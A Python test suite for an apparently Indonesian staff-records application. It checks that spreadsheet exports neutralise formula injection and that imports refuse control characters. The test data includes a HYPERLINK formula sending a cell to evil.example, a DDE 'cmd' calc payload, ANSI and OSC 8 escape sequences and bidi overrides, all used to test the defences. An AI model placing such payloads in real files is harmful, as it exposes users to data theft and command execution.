"""Staff files against formula injection and control characters; legacy rows stay exportable.

Formula-like cells (`=`, `+`, `-`, `@`, tab, CR first) are exported with the OWASP apostrophe
(XLSX: as string cells, never formulas) and the apostrophe is removed on import, so
export -> import gives back exactly what was stored. Control characters and bidi overrides are
refused where text enters (file, service, form) and escaped where stored text leaves.
"""

import csv
import io

import openpyxl
import pytest
from hypothesis import given, settings, strategies as st

from skpdesk.cli.messages import format_error
from skpdesk.domain.errors import DomainError, ErrorCode, ImportRejected
from skpdesk.domain.people import PegawaiInput
from skpdesk.domain.text_rules import escape_forbidden, first_forbidden
from skpdesk.services.spreadsheet_cells import export_cell, import_cell
from skpdesk.services.staff_file_reading import COLUMNS
from skpdesk.services.staff_files import StaffFilesService
from skpdesk.storage.database import Database
from skpdesk.services.context import Services

KADIS = "197001012000031001"
STAFF = "199001012015031003"

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")", "+62 812 000", "-",
            "@SUM(A1:A2)", "=1+1", "'Ali", "''dua", "'=sudah dikutip", "-Budi-", "=cmd|' /C calc'!A0"]


def base_rows(name="Budi Santoso", front="", back="S.Sos.", position="Analis", unit="Sekretariat"):
    return [
        [KADIS, "Ahmad Fauzi", "Dr.", "M.Si.", "PNS", "IV/c", "Kepala Dinas", "jpt", "", "Pimpinan",
         "", ""],
        [STAFF, name, front, back, "PNS", "III/b", position, "pelaksana", "", unit, KADIS, ""],
    ]


def write_csv(path, rows):
    buf = io.StringIO(newline="")
    w = csv.writer(buf)
    w.writerow(COLUMNS)
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def fresh(tmp_path, name):
    services = Services.build(Database(tmp_path / name / "skpdesk.sqlite"), "test")
    services.office.init_office("Dinas Contoh", "Wonosari")
    return services


def staff_data(services):
    return sorted((p.nip or "", p.name, p.front_title, p.back_title, p.position, p.unit_path,
                   p.supervisor_nip) for p in services.staff.list())


# --- formula injection -------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_values_round_trip_exactly_and_are_neutralised(office, db, tmp_path, fmt):
    files = StaffFilesService(db, "test")
    rows = base_rows()
    files.import_file(write_csv(tmp_path / "in.csv", rows))
    for i, value in enumerate(FORMULAS):  # stored verbatim through the service (form, CLI)
        office.staff.add(PegawaiInput(
            name=value, asn_type="PNS", nip=f"19900101201503{1 + i % 2}{i + 100:03d}", front_title="-",
            back_title=value, rank="III/a", position=value, position_kind="pelaksana",
            unit_path="Sekretariat/" + value.replace("/", ""), supervisor_nip=STAFF))
    stored = staff_data(office)
    assert set(FORMULAS) <= {s[1] for s in stored}
    total = len(rows) + len(FORMULAS)

    out = tmp_path / f"export.{fmt}"
    files.export_file(out)
    if fmt == "csv":
        text = out.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK(" in text and ";=" not in text and ";+" not in text and ";@" not in text
        assert ";'-;" in text  # gelar_depan "-"
        assert ";'''dua;" in text  # a leading apostrophe gets one more
    else:
        wb = openpyxl.load_workbook(out)  # not data_only: see what a spreadsheet would see
        cells = [c for row in wb.active.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        values = {c.value for c in cells}
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")" in values
        assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in values)

    again = fresh(tmp_path, "again")
    report = StaffFilesService(again.db, "test").import_file(out)
    assert report.created == total
    assert staff_data(again) == stored
    # and importing the export into the original database changes nothing
    assert files.import_file(out).unchanged == total


def test_hand_typed_apostrophe_before_a_letter_is_kept():
    assert import_cell("'Ali") == "'Ali"
    assert import_cell("'=x") == "=x" and import_cell("''x") == "'x" and import_cell("'") == "'"


_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\"aZ9 ;,./()é\t\r\n")), min_size=1, max_size=12)


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_export_then_import_of_one_cell_is_exact(value):
    # What the import reads back (stripped cell, apostrophe undone) is what was stored; stored
    # text never starts or ends with whitespace (the services strip it).
    value = value.strip()
    if not value:
        return
    cell = export_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert import_cell(cell.strip()) == value


# --- control characters ------------------------------------------------------------------------

CONTROLS = {"NUL": "\x00", "BEL": "\x07", "ESC": "\x1b", "DEL": "\x7f", "C1 CSI": "\x9b",
            "RLO": "\u202e", "LRI": "\u2066", "PDI": "\u2069"}


@pytest.mark.parametrize("label", sorted(CONTROLS))
def test_control_character_in_a_name_is_refused_at_import(files_service, db, tmp_path, label):
    ch = CONTROLS[label]
    rows = base_rows(name=f"Budi{ch} Santoso")
    with pytest.raises(ImportRejected) as info:
        files_service.import_file(write_csv(tmp_path / "a.csv", rows))
    (problem,) = info.value.problems
    assert (problem.row, problem.column, problem.error.code) == (
        3, "nama", ErrorCode.FIELD_CONTROL_CHARACTER)
    assert problem.error.params["position"] == 5
    message = format_error(problem.error)
    assert message.startswith(f"Nama berisi karakter kendali yang tidak terlihat (U+{ord(ch):04X}")
    assert first_forbidden(message) is None  # the message itself is safe to print
    with db.reader() as r:
        assert r.people.count() == 0


def test_control_character_in_a_code_column_is_one_problem(files_service, tmp_path):
    rows = base_rows()
    rows[1][0] = STAFF + "\x00"
    rows[1][10] = KADIS + "\u202e"
    with pytest.raises(ImportRejected) as info:
        files_service.import_file(write_csv(tmp_path / "a.csv", rows))
    assert [(p.row, p.column, p.error.code) for p in info.value.problems] == [
        (3, "nip", ErrorCode.FIELD_CONTROL_CHARACTER),
        (3, "nip_atasan", ErrorCode.FIELD_CONTROL_CHARACTER)]


@pytest.fixture
def files_service(office, db):
    return StaffFilesService(db, "test")


def test_services_refuse_control_characters(office):
    with pytest.raises(DomainError) as err:
        office.staff.add(PegawaiInput(name="Budi\u202eSantoso", asn_type="NON_ASN", position="Bupati",
                                      position_kind="jpt", unit_path="Pemda"))
    assert err.value.code is ErrorCode.FIELD_CONTROL_CHARACTER and err.value.params["field"] == "nama"
    with pytest.raises(DomainError) as err:
        office.office.update_instansi(city="Wono\x1b[2Jsari")
    assert err.value.code is ErrorCode.FIELD_CONTROL_CHARACTER and err.value.params["field"] == "kota"


def test_tabs_and_newlines_are_still_whitespace(office):
    p = office.staff.add(PegawaiInput(name="Budi\tSantoso\n", asn_type="NON_ASN", position="Bupati",
                                      position_kind="jpt", unit_path="Pemda")).value
    assert p.name == "Budi Santoso"


def _legacy(db, pegawai_id, **fields):
    """Write what an older release accepted: through the repository (journaled), past the rules."""
    with db.unit_of_work("legacy") as uow:
        uow.people.update(pegawai_id, fields)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_legacy_control_characters_cannot_break_export(office, db, tmp_path, fmt):
    files = StaffFilesService(db, "test")
    files.import_file(write_csv(tmp_path / "a.csv", base_rows()))
    staff = office.staff.by_nip(STAFF)
    _legacy(db, staff.id, name="Budi\x1b[31m\x00 \u202eSantoso", position="=HYPERLINK(\"x\")\x07")
    out = tmp_path / f"e.{fmt}"
    files.export_file(out)  # was: openpyxl IllegalCharacterError for the whole office
    again = fresh(tmp_path, "again")
    StaffFilesService(again.db, "test").import_file(out)
    p = again.staff.by_nip(STAFF)
    assert p.name == "Budi\\x1b[31m\\x00 \\u202eSantoso"  # visible, and importable
    assert p.position == "=HYPERLINK(\"x\")\\x07"


def test_escape_forbidden_shows_what_is_there():
    assert escape_forbidden("a\x1b[2Jb\u202ec\t\n") == "a\\x1b[2Jb\\u202ec\t\n"
    assert escape_forbidden("Siti Aminah, S.Kom.") == "Siti Aminah, S.Kom."
    assert escape_forbidden("ÉÖ 中文 😀") == "ÉÖ 中文 😀"


def test_skp_texts_refuse_control_characters_but_keep_line_breaks(office):
    p = office.staff.add(PegawaiInput(name="Budi", asn_type="PNS", nip=STAFF, rank="III/b",
                                      position="Analis", position_kind="pelaksana",
                                      unit_path="Sekretariat")).value
    skp = office.skp.create(p.id, 2025).value
    with pytest.raises(DomainError) as err:
        office.skp.add_rhk(skp.id, "Laporan\x1b]8;;http://x\x07 selesai")
    assert err.value.code is ErrorCode.FIELD_CONTROL_CHARACTER and err.value.params["field"] == "rhk"
    rhk = office.skp.add_rhk(skp.id, "Baris satu\nBaris dua").value
    assert rhk.text == "Baris satu\nBaris dua"
